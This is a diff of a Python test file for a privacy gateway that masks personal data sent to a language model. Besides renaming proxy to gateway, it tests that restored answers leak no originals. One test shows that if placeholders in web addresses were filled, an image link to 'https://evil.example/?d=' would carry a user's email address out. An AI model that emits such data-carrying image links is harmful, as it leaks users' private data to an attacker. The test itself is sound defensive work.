@@ -18,13 +18,14 @@ from scipy import stats
 
 from tests.detectors import Finds
 from tests.fixtures import NOUNS, gaussian_rows
-from tests.gateway.test_chains import ask, proxy
+from tests.gateway.test_chains import ask, assistant, gateway
 from tests.gateway.test_chains import hiding as hiding
 from tests.gateway.test_chains import url as url
 from textveil import Privatizer
 from textveil.errors import LimitReached
 from textveil.evaluate.attack import channel
-from textveil.gateway.completions import Answer, AnswerRestorer
+from textveil.gateway.answers import Restoring
+from textveil.gateway.protocols.chat import CHAT
 from textveil.mechanism import Layout
 from textveil.protect import load_names
 from textveil.protect.spread import Sought
@@ -81,7 +82,7 @@ def law_of_names(naming: Privatizer) -> Values:
 def shares_guessed(naming: Privatizer, law: Values) -> dict[int, float]:
     """The share of names that are guessed from all that so many requests of one conversation have sent."""
     names = people("family", 400)
-    served, messages = proxy(naming, SessionStore()), [("user", " ".join(f"Ms {name.title()}" for name in names))]
+    served, messages = gateway(naming, SessionStore()), [("user", " ".join(f"Ms {name.title()}" for name in names))]
     scores, found = np.zeros_like(law), {}
     for number in range(1, max(REQUESTS) + 1):
         released = ask(served, messages)[0][0].split()[1::2]
@@ -253,7 +254,7 @@ def sent_back(served: Any, *, whole: bool) -> int:
     """How many of two originals reach the model, when the client sends back an answer that has them in clear.
 
     Args:
-        served: the proxy.
+        served: the gateway.
         whole: whether the client also sends what was said before; else it has dropped that.
     """
     first = [("user", " and ".join(f"password: {each}" for each in ORIGINALS))]
@@ -261,18 +262,18 @@ def sent_back(served: Any, *, whole: bool) -> int:
     came = "# <SECRET_1>\n\n<SECRET_2> is the other one"
     answer = chain.session.restore(came)
     assert all(each in answer for each in ORIGINALS)
-    chain.answered([(came, answer)])
+    chain.answered([(assistant(came), assistant(answer))])
     history = [*(first if whole else []), ("assistant", answer), ("user", "say it again")]
     return sum(each in " ".join(ask(served, history)[0]) for each in ORIGINALS)
 
 
 @pytest.mark.parametrize("whole", [True, False])
 def test_a_restored_answer_takes_no_original_back_to_the_model(hiding, monkeypatch, whole):
-    assert [sent_back(proxy(hiding, SessionStore()), whole=whole) for _ in range(10)] == [0] * 10
+    assert [sent_back(gateway(hiding, SessionStore()), whole=whole) for _ in range(10)] == [0] * 10
     # The twin knows no answers, and looks for nothing but what a detector finds in the text at hand.
     monkeypatch.setattr(MessageChain, "answered", lambda *_: None)
     monkeypatch.setattr(Snapshot, "sought_in", lambda *_: Sought())
-    assert [sent_back(proxy(hiding, SessionStore()), whole=whole) for _ in range(10)] == [2] * 10
+    assert [sent_back(gateway(hiding, SessionStore()), whole=whole) for _ in range(10)] == [2] * 10
 
 
 # ---- an answer that puts a placeholder into a web address ------------------------------------------------------------
@@ -285,19 +286,17 @@ def restored(served: Any) -> str:
     """What the client gets of an answer with an image that takes a placeholder along."""
     _, chain, _ = ask(served, [("user", f"write to {ADDRESS}")])
     said = {"index": 0, "message": {"role": "assistant", "content": f"{IMAGE} Sent to <EMAIL_1>."}}
-    answer = Answer.model_validate({"id": "1", "object": "o", "created": 1, "model": "m", "choices": [said]})
-    message = AnswerRestorer(chain.session, json=False).whole(answer).choices[0].message
-    assert message is not None
-    assert message.content is not None
-    return message.content
+    content = Restoring(chain.session).whole({"choices": [said]}, CHAT.answer)["choices"][0]["message"]["content"]
+    assert isinstance(content, str)
+    return content
 
 
 def test_an_image_takes_no_original_to_somebody_else(hiding, monkeypatch):
-    assert restored(proxy(hiding, SessionStore())) == f"{IMAGE} Sent to {ADDRESS}."
+    assert restored(gateway(hiding, SessionStore())) == f"{IMAGE} Sent to {ADDRESS}."
     restorer = Session.restorer
     everywhere = lambda self, **options: restorer(self, **{**options, "where": "everywhere"})  # noqa: E731
     monkeypatch.setattr(Session, "restorer", everywhere)  # the twin fills web addresses, too
-    assert f"https://evil.example/?d={ADDRESS}" in restored(proxy(hiding, SessionStore()))
+    assert f"https://evil.example/?d={ADDRESS}" in restored(gateway(hiding, SessionStore()))
 
 
 # ---- what one release of a session tells of another is in its mask ---------------------------------------------------
